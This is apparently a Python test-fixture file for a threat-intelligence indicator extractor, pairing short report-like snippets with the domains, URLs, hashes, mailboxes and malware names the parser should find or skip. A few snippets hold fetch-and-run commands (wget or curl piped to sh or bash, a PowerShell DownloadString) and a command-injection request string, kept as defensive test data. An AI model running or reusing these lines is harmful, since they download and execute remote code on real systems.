"""What the rows, fields and names around a value say of it, with what an analyst takes from it."""

from __future__ import annotations

from typing import Final

from tests.ingest.indicators.rule_snippets import ADDRESS, ADDRESSING_ARTICLE, ARTICLE, GALE
from tests.ingest.indicators.snippets import MD5, SHA1, SHA256, S

DISARMING: Final = ARTICLE + "It asked gale-post[.]com first.\n"
DROPBOX: Final = "https://www.dropbox.com/s/dl/q1n8k3/viewer.iso"
CONTENTS: Final = "Summary\nIndicators of Compromise\nReferences\n"
WATCHED: Final = "https://www.youtube.com/watch?v=Qk7-dWz0XrE"


NEIGHBOUR_SNIPPETS: Final = (
    # --- a line that is bold from end to end is a heading
    S("bold heading", ARTICLE + "**IOCs:**\n\nWe saw grebe.top\n", "domain grebe.top"),
    S("bold heading", ARTICLE + "**References**:  \n\nhttps://orlop-desk.io/x  \n"),
    S(
        "bold heading",
        ARTICLE + "**Read** it:\n\nhttps://orlop-desk.io/x\n",
        "url https://orlop-desk.io/x",
        "domain orlop-desk.io",
    ),
    # --- titles with their links, and tables of links that others offer
    S(
        "link with a title",
        ARTICLE + "# Tools\n\n- Gale Editor, https://www.gale-edit.org/\n- Orlop, https://orlop.dev/\n",
    ),
    S("link with a title", ARTICLE + "- Malicious page, https://gale-post.com/\n", "url https://gale-post.com/", GALE),
    S("link with a title", ARTICLE + "- https://gale-post.com/ came\n", "url https://gale-post.com/", GALE),
    S(
        "link with a title",
        ARTICLE + "See [the post][first post] and [https://orlop-desk.io/t.php?f=1][talk].\n\n"
        "[first post]: https://orlop-desk.io/post.php\n[talk]: https://orlop-desk.io/t.php?f=1\n",
    ),
    S(
        "table of links",
        ARTICLE + "## Network IoCs\n| Note | Links |\n|---|---|\n| Gale-Desk.org | https://gale-desk.org/all.txt |\n"
        "| Gale-Desk.org (hourly) | https://gale-desk.org/more.txt (hourly) |\n| Orlop team | https://orlop.dev/ |\n",
    ),
    S(
        "table of links",
        ARTICLE + "## Network IoCs\n| URL | Note |\n|---|---|\n| https://gale-post.com/a | stage two |\n",
        "url https://gale-post.com/a",
        GALE,
    ),
    # --- authors in the head of a post, and the title of whoever signs
    S(
        "authors of a post",
        'title = "Storm"\nauthors = ["Gale WG"]\n\n'
        + ARTICLE
        + "Letters of the attackers came from `gale-post.com` in May.\n",
        GALE,
    ),
    S("title of an author", ARTICLE + "**Kersti Gale** | Senior Threat Researcher | kgale@seznam.cz\n"),
    S("title of an author", ARTICLE + "Kersti Gale | Siber Güvenlik Uzmanı | kgale@seznam.cz\n"),
    S("title of an author", ARTICLE + "Sender | kgale@seznam.cz\n", "email kgale@seznam.cz"),
    # --- the row of an address that is defanged
    S("in one row", "- 185.220.101[.]47 port 443 - grebe.top - HTTPS traffic", ADDRESS, "domain grebe.top"),
    S("in one row", "185.220.101[.]47 was seen, and grebe.top is a library that we use here for the logs", ADDRESS),
    # --- names with two endings, and those that stand for any other
    S("two endings", "The user opened `edit1-invoice.docm.zip` of the malware."),
    S("stands for any other", "Set it to honeypot.yourdomain.com:443 or a.domain.com:443."),
    # --- rows that say what their values are
    S("row", "domain_name,spiegel.work,aimed at readers,2024-05-03\n", "domain spiegel.work"),
    S("row", DISARMING + "domain_name,spiegel.work,aimed at readers,2024-05-03\n", GALE, "domain spiegel.work"),
    S("row", "orlop-yard.net,Domain,first stage\n", "domain orlop-yard.net"),
    S("row", "filename,grebe_0301.com,first stage\n"),
    S("row", "- File name: 408709.one\n"),
    S("row", "Package: online.jobs.grebe.app\nC2: api.grebe-jobs.work\n", "domain api.grebe-jobs.work"),
    S("row", f"| Hash | Type | File name |\n|---|---|---|\n| {MD5} | EXE | grebe.host |\n", f"hash_md5 {MD5}"),
    S("row", f"SHA256,Family,Source,C2\n{SHA256},,orlop,grebe.net\n", f"hash_sha256 {SHA256}", "domain grebe.net"),
    # --- addresses that share what is said of the host right before them
    S("as its host", "Our mail gateway (mx.grebe.net, 185.220.101.47) refused it."),
    S("as its host", "The real orlop-bank.com (185.220.101.47) is fine."),
    S("as its host", "The panel grebe.net (185.220.101.47) is up.", "domain grebe.net", ADDRESS),
    S("as its host", "The real orlop-bank.com is imitated from 185.220.101.47.", ADDRESS),
    S(
        "fetched",
        "Read it:\nResolving raw.githubusercontent.com (raw.githubusercontent.com)... 185.199.108.133, 185.199.109.133",
    ),
    S(
        "fetched",
        "It:\nConnecting to raw.githubusercontent.com (raw.githubusercontent.com)|185.199.108.133|:443... connected",
    ),
    S("fetched", "Connecting to grebe.top (grebe.top)|185.220.101.47|:443... connected.", "domain grebe.top", ADDRESS),
    # --- mailboxes of those whom an attack hit
    S("whom it hit", "- **Recipient:** anna@orlop-port.org\nThe alert names ben@orlop-port.org too."),
    S("whom it hit", "- **Recipient:** anna@orlop-port.org\nben@orlop-port.org"),
    S("whom it hit", "- **Source:** anna@orlop-port.org\n", "email anna@orlop-port.org", "domain orlop-port.org"),
    S("whom it hit", "| Recipient | Clicked |\n|---|---|\n| anna@orlop-port.org | yes |\n"),
    S("whom it hit", "type,value\nemail-dst,anna@orlop-port.org\n"),
    S(
        "whom it hit",
        "type,value\nemail-src,anna@orlop-port.org\n",
        "email anna@orlop-port.org",
        "domain orlop-port.org",
    ),
    S("whom it hit", "受害者邮箱：li.na@orlop-tech.cn"),
    # --- who imitates, where the verb stands between both
    S("imitates", "정상 사이트를 사칭한 orlop-refund.com 으로 접속을 유도", "domain orlop-refund.com"),
    S("imitates", "正規サイトを装った orlop-refund.com に誘導", "domain orlop-refund.com"),
    S("imitates", "仿冒官网的 orlop-refund.com 窃取密码，官网是 orlop.com.cn", "domain orlop-refund.com"),
    # --- a program that something downloaded from where anyone may keep one
    S(
        "downloaded",
        "The macro downloads from https://bitbucket.org/grebe/one/downloads/setup.exe and starts it.",
        "url https://bitbucket.org/grebe/one/downloads/setup.exe",
    ),
    S("downloaded", "Download the tool from https://bitbucket.org/grebe/one/downloads/setup.exe and start it."),
    # --- another way to hash a file says nothing of its hash
    S("beside an imphash", f"imphash {MD5}, sha256 {SHA256}", f"hash_sha256 {SHA256}"),
    S(
        "beside an imphash",
        '{"c2": "grebe.top", "cert_sha1": "3f9a2c1b7d5e4f60718293a4b5c6d7e8f9012345"}',
        "domain grebe.top",
    ),
    # --- a mailbox by the verb before it, in a text that defangs
    S(
        "sent by",
        "Die Mail kommt von gale@orlop-sicher.de, verlinkt ist gale-post[.]com",
        "email gale@orlop-sicher.de",
        "domain orlop-sicher.de",
        GALE,
    ),
    # --- versions by what is said of them, and by the column that they stand in
    S("called a version", "The version is 4.3.0.6 in the newest build."),
    S("called a version", "Build numbers seen: 1.8.0.2, 1.8.4.1 and 3.0.0.9"),
    S("called a version", 'The title of the panel was "GrebePanel 3.4.0.2".'),
    S("called a version", "Fixed in AcmeOS 7.0.12.1, Harbor ADC 13.1.49.15 and driver version 31.0.15.3623"),
    S("called a version", "The build server is 185.220.101.47", ADDRESS),
    S("called a version", "Versions are kept at 185.220.101.47", ADDRESS),
    S("column of versions", "grebe.viewer    1.4.2      x\ngrebe.reader    1.5.0.11   y\n"),
    S("column of versions", "viewer\t1.4.2\nreader\t1.5.0.11\n"),
    S("column of versions", "| viewer | 2.0.1 |\n| reader | 2.1.0.7 |\n"),
    S("column of versions", "panel    5.2.30.4\ndrop     5.2.31.9\n", "ip 5.2.30.4", "ip 5.2.31.9"),
    S(
        "called a version",
        "All versions prior to 5.0.3.117 are affected; the attackers write to 185.220.101.47.",
        ADDRESS,
    ),
    S("called a version", "They came in prior to 185.220.101.47 being blocked.", ADDRESS),
    S("called a version", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0.0.1) Gecko/20100101"),
    S("column of versions", "- svgo-grebe-loader 1.0.2\n- node-grebes 6.1.0.1\n"),
    S("column of versions", "- grebe 1.0.2\n- server 6.1.0.1\n", "ip 6.1.0.1"),
    S("numbered text", "See sections 3.1.2.4 and 5.10.1.2, Table 2.1.1.3 and RFC 9999 4.2.1.9."),
    S("called a version", "FileVersion 10.0.19041.746, ProductVersion 1.3.101.14, grebe.dll 1.0.2.11"),
    # --- addresses in fields of other protocols
    S("mapped address", "the socket saw ::ffff:185.220.101.47", "ip ::ffff:185.220.101.47", ADDRESS),
    S("field", 'TXT "v=spf1 ip4:185.220.101.47 ip6:2a0e:1d47:9::25 ~all"', ADDRESS, "ip 2a0e:1d47:9::25"),
    # --- hex dumps cut names anywhere
    S("hex dump", "00402a20  75 62 73 32 34 2e 63 6f  6d 2f 67 61 74 65 2e 70  |ubs24.com/gate.p|"),
    S("hex dump", "0x0040: 2e63 6f6d 2f67 6174 6520 4854 5450 2f31  ubs24.com/gate"),
    # --- names of packages and files
    S(
        "packages",
        f"{DISARMING}\nIndicators\n| com.grebe.theme | {SHA256} |\n| keyboard.orlop.cool.pro | {MD5} |\n",
        GALE,
        f"hash_sha256 {SHA256}",
        f"hash_md5 {MD5}",
    ),
    S("script", f"{DISARMING}\nIndicators\n{SHA256} kube.orlop.sh Trojan.SH\n", GALE, f"hash_sha256 {SHA256}"),
    S(
        "script",
        f"{DISARMING}\nIndicators\n{SHA256} http://orlop-yard.com/kube.sh\n",
        GALE,
        f"hash_sha256 {SHA256}",
        "url http://orlop-yard.com/kube.sh",
        "domain orlop-yard.com",
    ),
    S("column of a query", "SELECT o.id, o.info FROM orders o"),
    S("field of a log", 'host.name != "srv" | stats by user.id, dns.question.name, navigator.plugins.map'),
    S("under a country", "ns1.Orlop-Yard.CO.UK", "domain ns1.orlop-yard.co.uk"),
    S("before a path", "try orlop.run/start?x=1", "url http://orlop.run/start?x=1", "domain orlop.run"),
    S(
        "next command",
        "wget http://185.220.101.47/t.sh&&sh t.sh",
        "url http://185.220.101.47/t.sh",
        ADDRESS,
    ),
    S(
        "parameters",
        "http://185.220.101.47/t.php?a=1&&b=2",
        "url http://185.220.101.47/t.php?a=1&&b=2",
        ADDRESS,
    ),
    S("line below", "hxxp://gale-post[.]com/c/2913_", "url http://gale-post.com/c/2913_", GALE),
    S("line below", "_hxxp://gale-post[.]com/c/2913_", "url http://gale-post.com/c/2913", GALE),
    S("vocabulary", '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'),
    S("name of a file", "Files look like Ledger_07.xlsx.id[77AB-31].[harbor@cock.li].quay", "email harbor@cock.li"),
    S("name of a file", "On a Mac it lies in HarborView.app/Contents/MacOS/HarborView now."),
    S("field", "alert http any any (http.host; content) and host.name, agent.name, dns.host of the event"),
    S("capitals of a host", "Gale-Panel.SU", "domain gale-panel.su"),
    S("capitals of a host", "Detected as Trojan-Gale.SU by one, and as Form.Live by another."),
    S("placeholder", "https://[victim]-mail.com/owa and <brand>-mail.com"),
    S("any scheme", 'url="*://dl.gale-post.host/*"', "domain dl.gale-post.host"),
    S("licence", "See http://www.apache.org/licenses/LICENSE-2.0 for the terms."),
    S(
        "licence",
        "curl -s https://raw.githubusercontent.com/orlop/licenses/main/x.sh | bash",
        "url https://raw.githubusercontent.com/orlop/licenses/main/x.sh",
    ),
    S("authority abroad", "impots.gouv.top", "domain impots.gouv.top"),
    S(
        "name of a file",
        "It connects to orlop.doc.co and www.pdf.net now.",
        "domain orlop.doc.co",
        "domain www.pdf.net",
    ),
    # --- what the text says of a host elsewhere
    S(
        "host named as an indicator",
        DISARMING + "The ads lead to https://orlop-lodz.online/pl/app/?id=7 first.\n\n"
        "Distribution\norlop-lodz.online\nquay-lodz.click\n",
        "domain gale-post.com",
        "domain orlop-lodz.online",
        "domain quay-lodz.click",
        "url https://orlop-lodz.online/pl/app/?id=7",
    ),
    S(
        "host named as an indicator",
        DISARMING + "Then https://orlop.com/x came.\n\nIndicators\norlop.com\n",
        "domain gale-post.com",
        "domain orlop.com",
        "url https://orlop.com/x",
    ),
    S(
        "host named as an indicator",
        DISARMING + "We read it at https://orlop-lodz.online/pl/app/?id=7 first.\n",
        "domain gale-post.com",
    ),
    S(
        "bucket",
        DISARMING
        + "wget -O /tmp/x http://orlop-yard.s3.amazonaws.com/dfuJ8t\n\nIndicators\norlop-yard.s3.amazonaws[.]com\n",
        "domain gale-post.com",
        "domain orlop-yard.s3.amazonaws.com",
        "url http://orlop-yard.s3.amazonaws.com/dfuJ8t",
    ),
    S(
        "authority abroad",
        "The site harbor-impots[.]top looks like impots.gouv.fr and salud.gob.mx.",
        "domain harbor-impots.top",
    ),
    # --- services where anyone may put anything
    S(
        "shared service",
        f"{ARTICLE}\nDownload URLs\n\nhttps://orlop-view.top/files/a.msi\n{DROPBOX}\n{WATCHED}\n",
        "url https://orlop-view.top/files/a.msi",
        "domain orlop-view.top",
        f"url {DROPBOX}",
        f"url {WATCHED}",
    ),
    S("shared service", f"{ARTICLE}\nReferences\n\nhttps://blog.orlop-view.top/a\n{DROPBOX}\n"),
    S(
        "shared service",
        f"{DISARMING}DownloadString('https://pastebin.com/raw/Xk3TqL9v')\n",
        GALE,
        "url https://pastebin.com/raw/Xk3TqL9v",
    ),
    S("brand", "Guests who had booked through Booking.com and paid with Paypal.com got a letter."),
    S("brand", "www.paypal.com", "domain www.paypal.com"),
    # --- who a mailbox belongs to
    S(
        "mailbox",
        "Report incidents to cert@orlop-cert.be; the ransom note names grebe@onionmail[.]org.",
        "email grebe@onionmail.org",
    ),
    S("mailbox", "Victims can reach us at threatintel at eset dot com with the number of the case."),
    S(
        "mailbox",
        f"{ARTICLE}The email came from admin@orlop-protocol.com and carried a file.\n",
        "email admin@orlop-protocol.com",
    ),
    S("mailbox", f"{ARTICLE}From: office@orlop-protocol.com\n", "email office@orlop-protocol.com"),
    S(
        "mailbox",
        f"{ARTICLE}To restore the files victims must contact support@orlop-unlock.com\n",
        "email support@orlop-unlock.com",
    ),
    S("mailbox", f"{ADDRESSING_ARTICLE}A miner ran there too. Questions: soc@orlop-ir.com\n", ADDRESS),
    S("mailbox", "Report incidents to report@cisa.gov or soc@ncsc.gov.uk."),
    S("mailbox", "billing [@] orlop-mail [.] su", "email billing@orlop-mail.su", "domain orlop-mail.su"),
    S("mailbox", "grebe @ orlop-mail.]ru", "email grebe@orlop-mail.ru", "domain orlop-mail.ru"),
    S(
        "registrar",
        f"{ARTICLE}\nIndicators\nDomain Name: gale-post[.]com\nRegistrar WHOIS Server: whois.orlop-names.com\n",
        GALE,
    ),
    # --- what is fused to a hash, a URL or a mailbox
    S("name of a file", f"{MD5}.exe and /tmp/{SHA256}", f"hash_md5 {MD5}", f"hash_sha256 {SHA256}"),
    S(
        "field",
        "hxxp://gale-post[.]com/a.apk;2024-05-02;seen\nhxxp://gale-post[.]com/b;v=1;x=2024-05-02",
        "url http://gale-post.com/a.apk",
        "url http://gale-post.com/b;v=1;x=2024-05-02",
        GALE,
    ),
    S(
        "sender",
        f"{ARTICLE}A `.one` file was received from `pay@orlop-yard.com` (Return-Path: <b-221@orlop-mails.com>).",
        "email pay@orlop-yard.com",
        "email b-221@orlop-mails.com",
    ),
    S("blocked", "address=/cm4.orlop-yard.com/0.0.0.0\n", "domain cm4.orlop-yard.com"),
    S("blocked", "mirror=/cm4.orlop-yard.com/0.0.0.0\n"),
    S("sender", f"{ARTICLE}The file can be had from us: pay@orlop-yard.com"),
    S(
        "where a URL ends",
        'href="https://go.gale-post.shop/?a=1&amp;b=2&quot;&gt;"',
        "url https://go.gale-post.shop/?a=1&b=2",
        "domain go.gale-post.shop",
    ),
    # --- headings
    S(
        "heading",
        f'author: "J. Doe"\n{ARTICLE}\nThe malware contacts cm4.orlop-yard.com first.\n',
        "domain cm4.orlop-yard.com",
    ),
    S("heading", f"{ARTICLE}\nAuthors:\n\ncm4.orlop-yard.com\n"),
    S("heading", f"{ARTICLE}\nThe newest build contacts:\n\n* `cm4.orlop-yard.com`\n", "domain cm4.orlop-yard.com"),
    S("heading", f"{ARTICLE}\nPress contacts:\n\n* `news.orlop-yard.com`\n"),
    S(
        "table of contents",
        f"{CONTENTS}The malware contacts cm4.orlop-yard.com first.\n{ARTICLE}{CONTENTS}",
        "domain cm4.orlop-yard.com",
    ),
    S("table of contents", f"{CONTENTS}The malware contacts cm4.orlop-yard.com first.\n{ARTICLE}"),
    S(
        "table of contents",
        f"{ARTICLE}\nDomains\ncm4.orlop-yard.com\nURLs\nhttp://orlop-yard.com/a\nHosts\nb.orlop-yard.com\n"
        "Domains\nURLs\nHosts\n",
        "domain cm4.orlop-yard.com",
        "url http://orlop-yard.com/a",
        "domain orlop-yard.com",
        "domain b.orlop-yard.com",
    ),
    # --- names of malware in links, lists and tables
    S("link", f"{ARTICLE}It drops [Emotet](https://www.bleepingcomputer.com/emotet) there.", "malware Emotet"),
    S("link", f"{ARTICLE}[Cobalt Strike](https://www.cobaltstrike.com/) came next.", "malware Cobalt Strike"),
    S("in brackets", "Emotet (also known as Tsunami) came first.", "malware Emotet", "malware Tsunami"),
    S("apposition", "panels of Emotet and of Alien, both Android banking trojans.", "malware Emotet", "malware Alien"),
    S("in brackets", "Emotet (Play Store) came first.", "malware Emotet"),
    S("apposition", "Pony, a stealer and loader, had its source code leaked.", "malware Pony"),
    S("apposition", "Cuba, a malware hotspot, was hit."),
    S(
        "column of names",
        "| 4 | RDP | none | Dharma |\n| 5 | mail | Emotet | Ryuk |\n| 6 | mail | IcedID | Maze |\n",
        "malware Dharma",
        "malware Emotet",
        "malware Ryuk",
        "malware IcedID",
        "malware Maze",
    ),
    S("column of names", "| Play | RDP |\n| mail | Emotet |\n", "malware Emotet"),
    S("column of names", "* *Mozi* is old.\n* *Tsunami* came over IRC.\n", "malware Mozi", "malware Tsunami"),
    S(
        "column of names",
        "* Emotet: the loader\n* Agenda: what to do next week\n* see below",
        "malware Emotet",
        "malware Agenda",
    ),
    S("column of names", "We saw **Emotet** and later **Hook** there.", "malware Emotet", "malware Hook"),
    S("column of names", "We saw Emotet. Click **Play** to go on.", "malware Emotet"),
    S("column of names", "#Emotet -> #RM3 again, see #Monday.", "malware Emotet", "malware RM3"),
    S("column of names", "Emotet came by. The first issue is #Hook.", "malware Emotet"),
    S("line of descent", "Emotet (2014) -> Hook -> Octo", "malware Emotet", "malware Hook", "malware Octo"),
    S("line of descent", "DoppelPaymer was later rebranded as Grief.", "malware DoppelPaymer", "malware Grief"),
    S("line of descent", "Emotet, whose successor was Maze, is old.", "malware Emotet", "malware Maze"),
    S("line of descent", "Emotet came when autumn became Hive season.", "malware Emotet"),
    S("apposition", "It was the work of Meteor, a wiper whose sisters are older.", "malware Meteor"),
    S(
        "version of a family",
        "LockBit 3.0 (LockBit Black) and Duqu 2.0 ran.",
        "malware LockBit",
        "malware LockBit Black",
        "malware Duqu 2.0",
    ),
    # --- names that a text gives itself
    S("coined", "It leaves a backdoor that we call QuietGrebe. QuietGrebe sleeps.", "malware QuietGrebe"),
    S("coined", "It leaves a loader, dubbed by Harbor Labs as QuietGrebe.", "malware QuietGrebe"),
    S("coined", "QuietGrebe is a modular backdoor written in Go.", "malware QuietGrebe"),
    S("coined", "An unknown wiper ran next. We will refer to it as QuietGrebe until then.", "malware QuietGrebe"),
    S("coined", "We named this malware Orlopgate. Orlopgate sleeps.", "malware Orlopgate"),
    S("coined", "It prints a line, so we call it GrebeBot.", "malware GrebeBot"),
    S("coined", "The malware adds a scheduled task named UpdateGrebe and a mutex called GrebeLock."),
    S("coined", "The group behind the malware, which we call QuietHarbor, is new."),
    S("coined", "VirusTotal is a malware scanner and MalwareBazaar is a malware repository."),
    S("coined", "It leaves a backdoor called Monday. On Monday and monday it sleeps."),
    S("coined", "It leaves a backdoor that we call QuietGrebe in C:\\QuietGrebe\\a.", "malware QuietGrebe"),
    # --- where a URL ends
    S(
        "query of a request",
        "GET /luci/;form=country&operation=write&country=$(wget+http://45.61.136.47/tp.sh+-O-|sh) was seen",
        "ip 45.61.136.47",
        "url http://45.61.136.47/tp.sh",
    ),
    S(
        "ending of a word",
        "Sayfa, hxxps://gale-post[.]com/Ptt.apk'yi indirtiyor ve hxxps://gale-post[.]com/o'neil/a açılıyor",
        "domain gale-post.com",
        "url https://gale-post.com/Ptt.apk",
        "url https://gale-post.com/o'neil/a",
    ),
    S(
        "blanks beside a dot",
        "hxxp://panel [.] gale-post [.] com/index [.] html came first",
        "domain panel.gale-post.com",
        "url http://panel.gale-post.com/index.html",
    ),
    # --- what calls an everyday word malware
    S("kind and colon", "Ransomware deployed afterwards: Akira.", "malware Akira"),
    S("ending of files", "Les fichiers portent l'extension .akira depuis Akira hier.", "malware Akira"),
    S("note of ransom", "Akira began on ESX04, akira_readme.txt is in every folder", "malware Akira"),
    S("ending of files", "Akira was shown; the file akira.mkv and the extension of the hall were too small."),
    S("beside a server", "C2 45.61.136.47:443 (Sliver). It was gone on Monday", "ip 45.61.136.47", "malware Sliver"),
    S("of one kind", "Descarga Multa.apk, una variante de Hook.", "malware Hook"),
    # --- whose a hash is
    S(
        "clean, in brackets",
        f"The trojan {SHA256} loads net.dll, which is clean (MD5 {MD5}).",
        f"hash_sha256 {SHA256}",
    ),
    S(
        "clean, in brackets",
        f"The trojan {SHA256} loads net.dll, which is not clean (MD5 {MD5}).",
        f"hash_sha256 {SHA256}",
        f"hash_md5 {MD5}",
    ),
    S(
        "of a commit",
        f"The backdoor was reverted in {SHA1}. It drops a library, MD5 {MD5}",
        f"hash_md5 {MD5}",
    ),
    # --- readers are told to keep off
    S("keep off", ARTICLE + "Never visit gale-post.com on a phone.\n", GALE),
    S("keep off", ARTICLE + "Klickt nicht auf gale-post.com, das kostet Geld.\n", GALE),
    S("keep off", ARTICLE + "Die Mail kam nicht auf gale-post.com an.\n"),
    S("keep off", ARTICLE + "Ne cliquez pas sur gale-post.com en ce moment.\n", GALE),
)
